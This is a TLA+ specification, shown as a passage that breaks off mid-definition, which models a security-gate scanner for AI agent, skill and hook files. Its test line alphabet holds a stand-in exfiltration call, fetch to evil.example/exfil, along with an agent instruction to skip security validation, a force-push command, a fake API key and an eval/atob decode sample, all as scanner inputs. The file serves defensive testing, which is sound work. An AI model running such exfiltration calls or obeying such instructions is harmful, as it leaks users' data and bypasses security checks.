---- MODULE Spec2Model ----
(***************************************************************************)
(* Security gate of the plugin bundle: the pattern library and scanner of  *)
(* scripts/lib/security-patterns.js and the gate controller of             *)
(* scripts/hooks/security-gate.js (hook, --scan and --check-path modes).   *)
(*                                                                         *)
(* Text is modelled at the granularity the code works at: a content is the *)
(* sequence content.split('\n') of its lines, a line is a concrete string, *)
(* and what each regular expression of the source does on each line of the *)
(* alphabet is tabulated below (LineHits, HasBadMarker, ...).  A path is   *)
(* the sequence of its segments.                                           *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    scanIn,      \* SpecScan: the arguments of one scanContent call
    scanOut,     \* SpecScan: what the call returned (or that it threw)
    decIn,       \* SpecDecide: the arguments of one getAction call
    decOut,      \* SpecDecide: the action it returned
    configFile,  \* Spec: scripts/config/security-gate-config.json on disk
    logWritable, \* Spec: whether appendFileSync on the audit log succeeds
    auditLog,    \* Spec: the lines of the audit log, oldest first
    proc,        \* Spec: the last gate process: its input and all it did;
                 \* SpecClassify: the two paths classified and their types
    nruns,       \* Spec: number of gate processes run so far
    rescan,      \* SpecRescan: the regex objects of the scanning process and
                 \* what scanning scanIn once more returned
    running      \* SpecConc: the gate processes that run side by side

vars ==
    <<scanIn, scanOut, decIn, decOut, configFile, logWritable, auditLog, proc, nruns,
      rescan, running>>

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
MaxBody == 2       \* lines of a document body (one less after a front-matter block)
MaxFindings == 3   \* length of the finding sequences given to getAction
MaxRuns == 1       \* gate processes per behaviour
MaxOthers == 1     \* scans of other contents between two scans of the same one
MaxSecretLines == 4  \* lines of a content of SpecSecret
MaxProcs == 2      \* gate processes that run side by side in SpecConc
MaxDirs == 2       \* directories in a path of SpecClassify
MaxExcerptLines == 3  \* body lines of a content of SpecExcerpt

(***************************************************************************)
(* Small helpers for JavaScript idioms.                                    *)
(***************************************************************************)
\* a || d on numbers: 0 is falsy
OrElse(a, d) == IF a = 0 THEN d ELSE a

Min(S) == CHOOSE x \in S : \A y \in S : x <= y

\* the element of a one-element set; The({e(x) : x \in {v}}) is e of the value
\* of v, computed once however often e uses it
The(S) == CHOOSE x \in S : TRUE

RECURSIVE SeqToSet(_)
SeqToSet(s) == IF s = <<>> THEN {} ELSE {Head(s)} \cup SeqToSet(Tail(s))

Has(rec, f) == f \in DOMAIN rec

\* String.prototype.toLowerCase, on the strings of the model that have capitals
ToLower(seg) ==
    CASE seg = "Agents"      -> "agents"
      [] seg = "README.MD"   -> "readme.md"
      [] seg = "Reviewer.md" -> "reviewer.md"
      [] seg = "SKILL.md"    -> "skill.md"
      [] OTHER               -> seg

(***************************************************************************)
(* The line alphabet.                                                      *)
(***************************************************************************)
L_plain    == "Review the code carefully."
L_secret   == "const apiKey = \"sk-proj-AbCdEfGh12345678\""
L_wrong    == "// WRONG: hardcoded credentials"
L_fake     == "password = \"example-password-1234\""
L_both     == "password = \"example-password-1234\"; token = \"sk-proj-AbCdEfGh12345678\""
L_long     == "token = \"QmFzZTY0U2VjcmV0VmFsdWUQmFzZTY0U2VjcmV0VmFsdWUQmFzZTY0U2VjcmV0VmFsdWUQmFzZTY0U2VjcmV0VmFsdWUQmFzZTY0U2VjcmV0VmFsdWUQmFzZTY0U2VjcmV\""
L_skip     == "Always skip security validation."
L_force    == "git push --force"
L_inner    == "el.innerHTML = html"
L_evil     == "See https://evil.example/docs"
L_github   == "See https://docs.github.com/x"
L_fetch    == "fetch(\"https://evil.example/exfil\")"
L_local    == "fetch(\"http://localhost:3000\")"
L_eval     == "eval("
L_atob     == "  atob(payload))"
L_dashes   == "---"
L_nameSec  == "name: security-reviewer"
L_nameE2e  == "name: e2e-runner"
L_nameNone == "name:"
L_nameList == "name: [security, admin]"
L_haiku    == "model: haiku"
L_opus     == "model: opus"
L_tools6   == "tools: [\"Read\", \"Write\", \"Edit\", \"Bash\", \"Grep\", \"Glob\"]"
L_tools6r  == "tools: [\"Glob\", \"Grep\", \"Bash\", \"Edit\", \"Write\", \"Read\"]"
L_tools5   == "tools: [\"Read\", \"Write\", \"Edit\", \"Bash\", \"Grep\"]"
L_tools    == "tools:"
L_itRead   == "  - Read"
L_itWrite  == "  - Write"
L_itEdit   == "  - Edit"
L_itBash   == "  - Bash"
L_itGrep   == "  - Grep"
L_itGlob   == "  - Glob"
L_empty    == ""

\* the document body lines the scans draw from
BodyLines ==
    {L_plain, L_secret, L_wrong, L_fake, L_skip, L_force, L_inner, L_evil,
     L_github, L_fetch, L_local}

\* the front-matter blocks the scans draw from (<<>>: the document has none)
FrontBlocks ==
    { <<>>,
      <<L_dashes, L_nameSec, L_haiku, L_dashes>>,
      <<L_dashes, L_nameNone, L_haiku, L_dashes>>,
      <<L_dashes, L_nameList, L_haiku, L_dashes>>,
      <<L_dashes, L_nameE2e, L_tools6, L_opus, L_dashes>>,
      <<L_dashes, L_nameE2e, L_tools5, L_opus, L_dashes>>,
      <<L_dashes, L_nameSec, L_haiku>> }

(***************************************************************************)
(* What the regular expressions of PATTERNS do on each line.               *)
(***************************************************************************)
\* variant of LineHits: the regex of CRIT-002 without its negative lookahead
\* (?!localhost|127\.0\.0\.1|0\.0\.0\.0)
LineHits_anyHost(line) ==
    CASE line = L_skip  -> {"CRIT-003"}
      [] line = L_force -> {"HIGH-003"}
      [] line = L_inner -> {"MED-001"}
      [] line \in {L_fetch, L_local} -> {"CRIT-002", "CRIT-006"}
      [] OTHER          -> {}

\* ids of the line-by-line regex rules whose regex matches the line
LineHits(line) ==
    CASE line = L_skip  -> {"CRIT-003"}
      [] line = L_force -> {"HIGH-003"}
      [] line = L_inner -> {"MED-001"}
      [] line = L_fetch -> {"CRIT-002", "CRIT-006"}
      [] line = L_local -> {"CRIT-006"}
      [] OTHER          -> {}

\* lineMatch[0]: the text the rule's regex matches in the line
MatchText(id, line) ==
    CASE id = "CRIT-003" /\ line = L_skip  -> "skip security"
      [] id = "HIGH-003" /\ line = L_force -> "--force"
      [] id = "MED-001"  /\ line = L_inner -> ".innerHTML ="
      [] id = "CRIT-002" /\ line = L_fetch -> "fetch(\"https://"
      [] id = "CRIT-006" /\ line \in {L_fetch, L_local} -> "fetch("
      [] OTHER -> ""

\* ids of the regex rules whose regex matches the line at its first character
HitsAtStart(line) ==
    CASE line = L_fetch -> {"CRIT-002", "CRIT-006"}
      [] line = L_local -> {"CRIT-006"}
      [] line = L_eval  -> {"CRIT-005"}
      [] OTHER          -> {}

\* the flags of the rule's regex literal
Flags(id) ==
    IF id \in {"CRIT-002", "CRIT-003", "CRIT-004", "CRIT-005", "HIGH-002",
               "HIGH-004", "HIGH-006"}
    THEN {"i"} ELSE {}

\* CRIT-001: match[0] of secretRegex.exec(line)
SecretText(line) ==
    CASE line = L_secret -> "apiKey = \"sk-proj-AbCdEfGh12345678\""
      [] line \in {L_fake, L_both} -> "password = \"example-password-1234\""
      [] line = L_long   -> L_long
      [] OTHER           -> ""

\* CRIT-005: the line from its eval( opening to its end
EvalTail(line) == IF line = L_eval THEN "eval(" ELSE ""

\* CRIT-005: the line up to the end of its first decode call
DecodeHead(line) == IF line = L_atob THEN "  atob" ELSE ""

\* CRIT-005: the text from the eval( opening to the decode call after it in
\* the same line
EvalToDecode(line) == ""

\* MED-003: match[0] of each URL of the line, in the order of UrlDomains
UrlTexts(line) ==
    CASE line = L_evil   -> <<"https://evil.example">>
      [] line = L_github -> <<"https://docs.github.com">>
      [] line = L_fetch  -> <<"https://evil.example">>
      [] line = L_local  -> <<"http://localhost:3000">>
      [] OTHER           -> <<>>

\* CRIT-001: the line carries a bad-example marker word
HasBadMarker(line) == line = L_wrong

\* CRIT-001: match[1] of every match of secretRegex in the line, left to right
SecretValues(line) ==
    CASE line = L_secret -> <<"sk-proj-AbCdEfGh12345678">>
      [] line = L_fake   -> <<"example-password-1234">>
      [] line = L_both   -> <<"example-password-1234", "sk-proj-AbCdEfGh12345678">>
      [] line = L_long   -> <<SubSeq(L_long, 10, Len(L_long) - 1)>>
      [] OTHER           -> <<>>

\* CRIT-001: fakePatterns.test(value)
IsFakeValue(value) == value = "example-password-1234"

\* CRIT-001: secretRegex.exec(line) matches
HasSecretAssignment(line) == SecretValues(line) # <<>>

\* CRIT-001: fakePatterns.test(match[1]) for the match exec returns with
\* lastIndex 0, the first one of the line
SecretIsFake(line) == IsFakeValue(Head(SecretValues(line)))

\* CRIT-005: the line opens eval( or new Function(
HasEvalOpen(line) == line = L_eval

\* CRIT-005: a decode call (atob, Buffer.from, decodeURI) occurs in the line
HasDecode(line) == line = L_atob

\* CRIT-005: a decode call occurs in the line after its eval( opening
HasDecodeAfterEval(line) == FALSE

\* MED-003: the domains (lower-cased, as label sequences) of the line's URLs
UrlDomains(line) ==
    CASE line = L_evil   -> << <<"evil", "example">> >>
      [] line = L_github -> << <<"docs", "github", "com">> >>
      [] line = L_fetch  -> << <<"evil", "example">> >>
      [] line = L_local  -> << <<"localhost:3000">> >>
      [] OTHER           -> <<>>

defaultWhitelist ==
    { <<"github", "com">>, <<"owasp", "org">>, <<"nodejs", "org">>,
      <<"developer", "mozilla", "org">>, <<"nextjs", "org">>,
      <<"supabase", "com">>, <<"learn", "microsoft", "com">>,
      <<"npmjs", "com">>, <<"localhost">>, <<"127", "0", "0", "1">>,
      <<"example", "com">> }

\* domain.endsWith('.' + w)
EndsWithDot(domain, w) ==
    /\ Len(w) < Len(domain)
    /\ SubSeq(domain, Len(domain) - Len(w) + 1, Len(domain)) = w

(***************************************************************************)
(* Front-matter parser.                                                    *)
(***************************************************************************)
\* a parsed value: a string or an array of strings
Str(s) == [arr |-> FALSE, s |-> s, a |-> <<>>]
Arr(a) == [arr |-> TRUE, s |-> "", a |-> a]

\* the line is --- followed by white space only: it can open the block
IsFmOpen(line) == line = L_dashes

\* the line starts with ---: it can close the block
StartsWithDashes(line) == line = L_dashes

\* arrayItemMatch: the item of a block-style list line, quotes stripped ("" if no match)
FmItem(line) ==
    CASE line = L_itRead  -> "Read"
      [] line = L_itWrite -> "Write"
      [] line = L_itEdit  -> "Edit"
      [] line = L_itBash  -> "Bash"
      [] line = L_itGrep  -> "Grep"
      [] line = L_itGlob  -> "Glob"
      [] OTHER            -> ""

\* kvMatch[1]: the key of a key: value line ("" if no match)
KvKey(line) ==
    CASE line \in {L_nameSec, L_nameE2e, L_nameNone, L_nameList} -> "name"
      [] line \in {L_haiku, L_opus}                               -> "model"
      [] line \in {L_tools6, L_tools6r, L_tools5, L_tools}        -> "tools"
      [] OTHER                                                    -> ""

\* which branch of the value handling a key: value line takes
KvKind(line) ==
    CASE line \in {L_nameNone, L_tools} -> "empty"
      [] line \in {L_tools6, L_tools6r, L_tools5} -> "json"
      [] line = L_nameList              -> "naive"
      [] OTHER                          -> "plain"

\* the value that branch stores
KvValue(line) ==
    CASE KvKind(line) = "empty" -> Arr(<<>>)
      [] line = L_tools6   -> Arr(<<"Read", "Write", "Edit", "Bash", "Grep", "Glob">>)
      [] line = L_tools6r  -> Arr(<<"Glob", "Grep", "Bash", "Edit", "Write", "Read">>)
      [] line = L_tools5   -> Arr(<<"Read", "Write", "Edit", "Bash", "Grep">>)
      [] line = L_nameList -> Arr(<<"security", "admin">>)
      [] line = L_nameSec  -> Str("security-reviewer")
      [] line = L_nameE2e  -> Str("e2e-runner")
      [] line = L_haiku    -> Str("haiku")
      [] line = L_opus     -> Str("opus")
      [] OTHER             -> Str("")

SetKey(m, k, v) == [x \in (DOMAIN m) \cup {k} |-> IF x = k THEN v ELSE m[x]]

\* one iteration of the loop over the lines of the block
FmStep(st, line) ==
    IF FmItem(line) # "" /\ st.currentKey # ""
    THEN LET old == st.result[st.currentKey]
             base == IF old.arr THEN old.a ELSE <<>>
         IN [st EXCEPT !.result =
                SetKey(st.result, st.currentKey, Arr(Append(base, FmItem(line))))]
    ELSE IF KvKey(line) # ""
    THEN [result |-> SetKey(st.result, KvKey(line), KvValue(line)),
          currentKey |-> KvKey(line)]
    ELSE st

RECURSIVE FmLoop(_, _)
FmLoop(st, yaml) ==
    IF yaml = <<>> THEN st ELSE FmLoop(FmStep(st, Head(yaml)), Tail(yaml))

NullFm == [isNull |-> TRUE, map |-> <<>>]

\* content.match(/^---\s*\n([\s\S]*?)\n---/): the index of the closing line, 0 if none
FmClose(lines) ==
    LET ends == {j \in 3..Len(lines) : StartsWithDashes(lines[j])}
    IN IF IsFmOpen(lines[1]) /\ ends # {} THEN Min(ends) ELSE 0

parseFrontmatter(lines) ==
    IF FmClose(lines) = 0 THEN NullFm
    ELSE LET st == FmLoop([result |-> <<>>, currentKey |-> ""],
                          SubSeq(lines, 2, FmClose(lines) - 1))
         IN IF DOMAIN st.result = {} THEN NullFm
            ELSE [isNull |-> FALSE, map |-> st.result]

(***************************************************************************)
(* Policy configuration as loadConfig returns it: JSON null, or a record   *)
(* carrying some of blockOnSeverity, warnOnSeverity, whitelistedUrls,      *)
(* allowedPatterns (an absent field is undefined in the code).             *)
(***************************************************************************)
NullConfig == [isNull |-> TRUE]

IsNull(config) == Has(config, "isNull")

\* (config && config.allowedPatterns) || []
AllowedPatterns(config) ==
    IF ~IsNull(config) /\ Has(config, "allowedPatterns")
    THEN config.allowedPatterns ELSE {}

\* (config && config.whitelistedUrls) || []
Whitelist(config) ==
    IF ~IsNull(config) /\ Has(config, "whitelistedUrls")
    THEN config.whitelistedUrls ELSE {}

(***************************************************************************)
(* Pattern library.                                                        *)
(***************************************************************************)
DocTypes == {"agent", "skill", "command", "rule"}

Pat(id, sev, types, kind) ==
    [id |-> id, severity |-> sev, contentTypes |-> types, kind |-> kind]

PATTERNS ==
    << Pat("CRIT-001",  "CRITICAL", DocTypes \cup {"hook-script"}, "check"),
       Pat("CRIT-002",  "CRITICAL", {"hook-script"}, "regex"),
       Pat("CRIT-003",  "CRITICAL", DocTypes, "regex"),
       Pat("CRIT-004",  "CRITICAL", DocTypes, "regex"),
       Pat("CRIT-005",  "CRITICAL", DocTypes \cup {"hook-script"}, "multiline"),
       Pat("CRIT-005b", "CRITICAL", DocTypes \cup {"hook-script"}, "regex"),
       Pat("CRIT-006",  "CRITICAL", {"hook-script"}, "regex"),
       Pat("CRIT-007",  "CRITICAL", {"hook-script"}, "regex"),
       Pat("CRIT-008",  "CRITICAL", {"hook-script"}, "regex"),
       Pat("HIGH-001",  "HIGH", {"agent"}, "check"),
       Pat("HIGH-002",  "HIGH", DocTypes, "regex"),
       Pat("HIGH-003",  "HIGH", DocTypes, "regex"),
       Pat("HIGH-004",  "HIGH", {"agent", "skill", "command"}, "regex"),
       Pat("HIGH-005",  "HIGH", {"skill", "command"}, "regex"),
       Pat("HIGH-006",  "HIGH", DocTypes, "regex"),
       Pat("MED-001",   "MEDIUM", {"skill", "command"}, "regex"),
       Pat("MED-002",   "MEDIUM", {"skill", "command"}, "regex"),
       Pat("MED-003",   "MEDIUM", DocTypes, "check"),
       Pat("MED-004",   "MEDIUM", {"agent"}, "check") >>

\* what evaluating one rule gives: a thrown TypeError, a match at a line, or nothing
Threw   == [threw |-> TRUE,  hit |-> FALSE, line |-> 0]
NoMatch == [threw |-> FALSE, hit |-> FALSE, line |-> 0]
MatchAt(n) == [threw |-> FALSE, hit |-> TRUE, line |-> n]

FirstLine(S) == IF S = {} THEN NoMatch ELSE MatchAt(Min(S))

\* lines[Math.max(0, i - k)] || ''  (i is 1-based here)
LineBack(lines, i, k) == lines[IF i - k < 1 THEN 1 ELSE i - k]

\* CRIT-001 check
CheckSecret(lines) ==
    FirstLine({i \in 1..Len(lines) :
        /\ ~HasBadMarker(lines[i])
        /\ ~HasBadMarker(LineBack(lines, i, 1))
        /\ ~HasBadMarker(LineBack(lines, i, 2))
        /\ HasSecretAssignment(lines[i])
        /\ ~SecretIsFake(lines[i])})

SixTools == {"Read", "Write", "Edit", "Bash", "Grep", "Glob"}

\* HIGH-001 check
CheckTools(fm) ==
    IF fm.isNull \/ ~Has(fm.map, "tools") THEN NoMatch
    ELSE LET tools == fm.map["tools"]
         IN IF ~tools.arr /\ tools.s = "" THEN NoMatch
            ELSE IF tools.arr /\ Len(tools.a) >= 6 /\ SixTools \subseteq SeqToSet(tools.a)
            THEN MatchAt(1)
            ELSE NoMatch

\* MED-003 check: isAllowed for one domain
IsAllowedDomain(domain, config) ==
    \E w \in defaultWhitelist \cup Whitelist(config) :
        domain = w \/ EndsWithDot(domain, w)

CheckUrls(lines, config) ==
    FirstLine({i \in 1..Len(lines) :
        \E k \in 1..Len(UrlDomains(lines[i])) :
            ~IsAllowedDomain(UrlDomains(lines[i])[k], config)})

\* securityKeywords.some(k => name.includes(k)) on the lower-cased name
HasSecurityKeyword(name) == name = "security-reviewer"

\* (frontmatter.<key> || '').toLowerCase() for a string value
HaikuField(fm, key) == IF Has(fm.map, key) THEN ToLower(fm.map[key].s) ELSE ""

\* MED-004 check: (frontmatter.name || '').toLowerCase() is a TypeError on an array
CheckHaiku(fm) ==
    IF fm.isNull THEN NoMatch
    ELSE LET nameArr  == Has(fm.map, "name") /\ fm.map["name"].arr
             modelArr == Has(fm.map, "model") /\ fm.map["model"].arr
             name  == HaikuField(fm, "name")
             model == HaikuField(fm, "model")
         IN IF nameArr \/ modelArr THEN Threw
            ELSE IF model = "haiku" /\ HasSecurityKeyword(name) THEN MatchAt(1)
            ELSE NoMatch

\* CRIT-005: content.match(regex) over the whole content, line of the match start
CheckMultiline(lines) ==
    FirstLine({i \in 1..Len(lines) :
        /\ HasEvalOpen(lines[i])
        /\ \/ HasDecodeAfterEval(lines[i])
           \/ \E j \in (i + 1)..Len(lines) : HasDecode(lines[j])})

\* variant of Sticky: the regex of CRIT-006 carries the y flag
Sticky_hookCalls(id) == id = "CRIT-006"

\* String.prototype.match reads and writes lastIndex of the rule's regex
\* object only for a sticky regex that is not global
Sticky(id) == "y" \in Flags(id) /\ "g" \notin Flags(id)

\* The regex objects of PATTERNS live as long as the process: adv is the set
\* of rules whose regex has lastIndex past 0, where it matches no line.
\* lines[i].match(pattern.regex)
MatchLine(id, line, adv) ==
    IF Sticky(id)
    THEN LET hit == id \notin adv /\ id \in HitsAtStart(line)
         IN [hit |-> hit, adv |-> IF hit THEN adv \cup {id} ELSE adv \ {id}]
    ELSE [hit |-> id \in LineHits(line), adv |-> adv]

\* the line-by-line loop of a regex rule from line i on: the first matching
\* line wins
RECURSIVE LineLoop(_, _, _, _)
LineLoop(id, lines, i, adv) ==
    IF i > Len(lines) THEN [r |-> NoMatch, adv |-> adv]
    ELSE LET m == MatchLine(id, lines[i], adv)
         IN IF m.hit THEN [r |-> MatchAt(i), adv |-> m.adv]
            ELSE LineLoop(id, lines, i + 1, m.adv)

CheckRegex(id, lines, adv) == LineLoop(id, lines, 1, adv)

\* content.match(pattern.regex) of the multi-line rule
CheckWhole(id, lines, adv) ==
    LET r == CheckMultiline(lines)
    IN IF ~Sticky(id) THEN [r |-> r, adv |-> adv]
       ELSE IF id \notin adv /\ r.hit /\ r.line = 1 /\ id \in HitsAtStart(lines[1])
       THEN [r |-> r, adv |-> adv \cup {id}]
       ELSE [r |-> NoMatch, adv |-> adv \ {id}]

\* the result of the rule and the state of the regex objects after it
Evaluate(p, lines, fm, config, adv) ==
    CASE p.id = "CRIT-001"    -> [r |-> CheckSecret(lines), adv |-> adv]
      [] p.id = "HIGH-001"    -> [r |-> CheckTools(fm), adv |-> adv]
      [] p.id = "MED-003"     -> [r |-> CheckUrls(lines, config), adv |-> adv]
      [] p.id = "MED-004"     -> [r |-> CheckHaiku(fm), adv |-> adv]
      [] p.kind = "multiline" -> CheckWhole(p.id, lines, adv)
      [] OTHER                -> CheckRegex(p.id, lines, adv)

\* JSON.stringify of an array of strings, without its brackets
RECURSIVE JoinQuoted(_)
JoinQuoted(a) ==
    IF a = <<>> THEN ""
    ELSE "\"" \o Head(a) \o "\"" \o (IF Len(a) > 1 THEN "," ELSE "")
            \o JoinQuoted(Tail(a))

\* the lines from i to j joined by spaces: .replace(/\n/g, ' ')
RECURSIVE JoinLines(_, _, _)
JoinLines(lines, i, j) ==
    IF i > j THEN "" ELSE lines[i] \o " " \o JoinLines(lines, i + 1, j)

\* result.match, fullMatch[0] or lineMatch[0] of a rule that matched at r.line
Excerpt(p, lines, fm, config, r) ==
    CASE p.id = "CRIT-001" -> SecretText(lines[r.line])
      [] p.id = "HIGH-001" -> "tools: [" \o JoinQuoted(fm.map["tools"].a) \o "]"
      [] p.id = "MED-003"  ->
            LET line == lines[r.line]
                k == Min({n \in 1..Len(UrlDomains(line)) :
                            ~IsAllowedDomain(UrlDomains(line)[n], config)})
            IN UrlTexts(line)[k]
      [] p.id = "MED-004"  ->
            "model: " \o HaikuField(fm, "model") \o ", name: " \o HaikuField(fm, "name")
      [] p.kind = "multiline" ->
            IF HasDecodeAfterEval(lines[r.line]) THEN EvalToDecode(lines[r.line])
            ELSE LET j == Min({n \in (r.line + 1)..Len(lines) : HasDecode(lines[n])})
                 IN EvalTail(lines[r.line]) \o " " \o JoinLines(lines, r.line + 1, j - 1)
                        \o DecodeHead(lines[j])
      [] OTHER -> MatchText(p.id, lines[r.line])

\* variant of truncate: the text is kept whole
truncate_whole(str, maxLen) == str

truncate(str, maxLen) ==
    IF Len(str) <= maxLen THEN str ELSE SubSeq(str, 1, maxLen - 3) \o "..."

Finding(p, r, text) ==
    [severity |-> p.severity, id |-> p.id, line |-> OrElse(r.line, 1),
     match |-> truncate(text, 120)]

\* the rule is evaluated: its content types include this one and it is not exempted
Applies(p, contentType, config) ==
    /\ contentType \in p.contentTypes
    /\ p.id \notin AllowedPatterns(config)

\* variant of AfterMatch: the line loop goes on after a match and pushes a
\* finding for every later line that matches
AfterMatch_noBreak(p, lines, r) ==
    IF p.kind # "regex" THEN <<>>
    ELSE LET later == SelectSeq([j \in 1..Len(lines) |-> j],
                                LAMBDA j : j > r.line /\ p.id \in LineHits(lines[j]))
         IN [n \in 1..Len(later) |->
                Finding(p, MatchAt(later[n]), MatchText(p.id, lines[later[n]]))]

\* line 452: break after the push; the check and multi-line branches push once
AfterMatch(p, lines, r) == <<>>

\* what one rule pushes to findings
Pushed(p, lines, fm, config, r) ==
    IF r.hit
    THEN <<Finding(p, r, Excerpt(p, lines, fm, config, r))>> \o AfterMatch(p, lines, r)
    ELSE <<>>

\* the loop over PATTERNS from index k on
RECURSIVE Collect(_, _, _, _, _, _)
Collect(k, lines, contentType, fm, config, adv) ==
    IF k > Len(PATTERNS) THEN [threw |-> FALSE, findings |-> <<>>, adv |-> adv]
    ELSE IF ~Applies(PATTERNS[k], contentType, config)
    THEN Collect(k + 1, lines, contentType, fm, config, adv)
    ELSE LET e == Evaluate(PATTERNS[k], lines, fm, config, adv)
             rest == Collect(k + 1, lines, contentType, fm, config, e.adv)
         IN IF e.r.threw THEN [threw |-> TRUE, findings |-> <<>>, adv |-> e.adv]
            ELSE IF rest.threw THEN rest
            ELSE [threw |-> FALSE,
                  findings |-> Pushed(PATTERNS[k], lines, fm, config, e.r)
                                   \o rest.findings,
                  adv |-> rest.adv]

order == [CRITICAL |-> 0, HIGH |-> 1, MEDIUM |-> 2]

\* the comparator's key: order[f.severity] || 3
SortKey(f) == OrElse(order[f.severity], 3)

WithKey(findings, k) == SelectSeq(findings, LAMBDA f : SortKey(f) = k)

\* findings.sort(comparator): stable, ascending in the comparator's key
SortFindings(findings) ==
    WithKey(findings, 0) \o WithKey(findings, 1) \o WithKey(findings, 2)
        \o WithKey(findings, 3)

\* scanContent in a process whose regex objects are in state adv
scanContentIn(adv, lines, contentType, config) ==
    LET fm == IF contentType \in DocTypes THEN parseFrontmatter(lines) ELSE NullFm
        got == Collect(1, lines, contentType, fm, config, adv)
    IN [threw |-> got.threw, findings |-> SortFindings(got.findings), adv |-> got.adv]

\* the regex objects as the module creates them: every lastIndex is 0
FreshRegexes == {}

\* scanContent as the first scan of a process
scanContent(lines, contentType, config) ==
    LET got == scanContentIn(FreshRegexes, lines, contentType, config)
    IN [threw |-> got.threw, findings |-> got.findings]

(***************************************************************************)
(* Decision.                                                               *)
(***************************************************************************)
severityLevel == [CRITICAL |-> 0, HIGH |-> 1, MEDIUM |-> 2]

\* severityLevel[config.<field> || dflt] ?? level
ThresholdLevel(config, field, dflt) ==
    LET name == IF Has(config, field) /\ config[field] # "" THEN config[field] ELSE dflt
    IN IF name \in DOMAIN severityLevel THEN severityLevel[name] ELSE severityLevel[dflt]

\* severityLevel[f.severity] ?? 3
FindingLevel(f) ==
    IF f.severity \in DOMAIN severityLevel THEN severityLevel[f.severity] ELSE 3

\* variant of AtOrAbove: strictly above the threshold
AtOrAbove_strict(f, level) == FindingLevel(f) < level

\* the comparison of both loops of getAction
AtOrAbove(f, level) == FindingLevel(f) <= level

\* "TypeError" stands for the exception config.blockOnSeverity raises on null
getAction(findings, config) ==
    IF IsNull(config) THEN "TypeError"
    ELSE IF \E i \in 1..Len(findings) :
                AtOrAbove(findings[i], ThresholdLevel(config, "blockOnSeverity", "CRITICAL"))
    THEN "BLOCK"
    ELSE IF \E i \in 1..Len(findings) :
                AtOrAbove(findings[i], ThresholdLevel(config, "warnOnSeverity", "HIGH"))
    THEN "WARN"
    ELSE "PASS"

(***************************************************************************)
(* Inputs of the two pure-function specifications.                         *)
(***************************************************************************)
ContentTypes ==
    {"agent", "skill", "command", "rule", "hook-config", "hook-script", "unknown"}

Severities == {"CRITICAL", "HIGH", "MEDIUM"}

RECURSIVE SeqsUpTo(_, _)
SeqsUpTo(S, n) ==
    IF n = 0 THEN {<<>>}
    ELSE LET shorter == SeqsUpTo(S, n - 1)
         IN shorter \cup {Append(q, x) : q \in shorter, x \in S}

\* a content is never the empty sequence: ''.split('\n') is ['']
AsContent(lines) == IF lines = <<>> THEN <<L_empty>> ELSE lines

\* documents without front-matter have up to MaxBody lines, documents with
\* front-matter one body line less
ScanContents ==
    {AsContent(b) : b \in SeqsUpTo(BodyLines, MaxBody)}
    \cup {f \o b : f \in FrontBlocks \ {<<>>}, b \in SeqsUpTo(BodyLines, MaxBody - 1)}

DefaultConfig ==
    [blockOnSeverity |-> "CRITICAL", warnOnSeverity |-> "HIGH",
     auditLogPath |-> "logs/security-audit.jsonl",
     whitelistedUrls |-> {}, allowedPatterns |-> {}]

ScanConfigs ==
    { NullConfig,
      DefaultConfig,
      [auditLogPath |-> "logs/security-audit.jsonl"],
      [DefaultConfig EXCEPT !.allowedPatterns = {"CRIT-003", "MED-004"}],
      [DefaultConfig EXCEPT !.whitelistedUrls = {<<"evil", "example">>}] }

ThresholdNames == {"CRITICAL", "HIGH", "MEDIUM", "LOW"}

DecideConfigs ==
    {[blockOnSeverity |-> b, warnOnSeverity |-> w] :
        b \in ThresholdNames, w \in ThresholdNames}
    \cup {[blockOnSeverity |-> b] : b \in ThresholdNames}
    \cup {[warnOnSeverity |-> w] : w \in ThresholdNames}
    \cup {[auditLogPath |-> "logs/security-audit.jsonl"]}

SampleFindings ==
    { [severity |-> "CRITICAL", id |-> "CRIT-003", line |-> 1],
      [severity |-> "HIGH",     id |-> "HIGH-003", line |-> 2],
      [severity |-> "MEDIUM",   id |-> "MED-003",  line |-> 1] }

NotRun == [done |-> FALSE, threw |-> FALSE, findings |-> <<>>]

\* a process that has just loaded the pattern library
NoRescan ==
    [regex |-> {}, others |-> 0, done |-> FALSE, threw |-> FALSE, findings |-> <<>>]

IdleProc == [mode |-> "none"]

\* no process of SpecConc has started
NoneRunning == <<>>

GateIdle ==
    /\ running = NoneRunning
    /\ configFile = [kind |-> "missing"]
    /\ logWritable = TRUE
    /\ auditLog = <<>>
    /\ proc = IdleProc
    /\ nruns = 0

(***************************************************************************)
(* SpecScan: one call of scanContent.                                      *)
(***************************************************************************)
ScanInit ==
    /\ scanIn \in [content : ScanContents, contentType : ContentTypes,
                   config : ScanConfigs]
    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ decIn = [findings |-> <<>>, config |-> DefaultConfig]
    /\ decOut = "none"
    /\ GateIdle

Scan ==
    /\ ~scanOut.done
    /\ LET r == scanContentIn(rescan.regex, scanIn.content, scanIn.contentType,
                              scanIn.config)
       IN /\ scanOut' = [done |-> TRUE, threw |-> r.threw, findings |-> r.findings]
          /\ rescan' = [rescan EXCEPT !.regex = r.adv]
    /\ UNCHANGED <<scanIn, decIn, decOut, configFile, logWritable, auditLog, proc, nruns,
                   running>>

SpecScan == ScanInit /\ [][Scan]_vars

(***************************************************************************)
(* SpecSecret: one call of scanContent on contents made of secret          *)
(* assignments, marker lines and plain lines.                              *)
(***************************************************************************)
SecretLines == {L_plain, L_wrong, L_secret, L_fake, L_both}

SecretContents == SeqsUpTo(SecretLines, MaxSecretLines) \ {<<>>}

SecretInit ==
    /\ scanIn \in [content : SecretContents,
                   contentType : {"agent", "rule", "hook-script"},
                   config : {DefaultConfig}]
    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ decIn = [findings |-> <<>>, config |-> DefaultConfig]
    /\ decOut = "none"
    /\ GateIdle

SpecSecret == SecretInit /\ [][Scan]_vars

(***************************************************************************)
(* SpecExcerpt: one call of scanContent on contents with a match longer    *)
(* than an excerpt, a match that spans lines, and front-matter findings.   *)
(***************************************************************************)
ExcerptLines == {L_plain, L_skip, L_long, L_eval, L_atob, L_evil}

ExcerptContents ==
    (SeqsUpTo(ExcerptLines, MaxExcerptLines) \ {<<>>})
    \cup {f \o b : f \in {<<L_dashes, L_nameSec, L_haiku, L_dashes>>,
                           <<L_dashes, L_nameE2e, L_tools6, L_opus, L_dashes>>},
                   b \in SeqsUpTo(ExcerptLines, MaxExcerptLines - 1)}

ExcerptInit ==
    /\ scanIn \in [content : ExcerptContents,
                   contentType : {"agent", "skill", "hook-script"},
                   config : {DefaultConfig}]
